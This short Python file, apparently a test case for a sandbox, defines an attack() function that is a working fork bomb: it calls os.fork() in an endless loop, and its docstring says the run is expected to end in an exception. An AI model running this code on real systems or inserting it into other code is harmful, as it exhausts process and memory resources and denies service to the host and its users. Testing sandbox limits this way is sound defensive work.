"""Forks for ever.

Ends as: raised.
"""

import os


def attack():
    while True:
        os.fork()
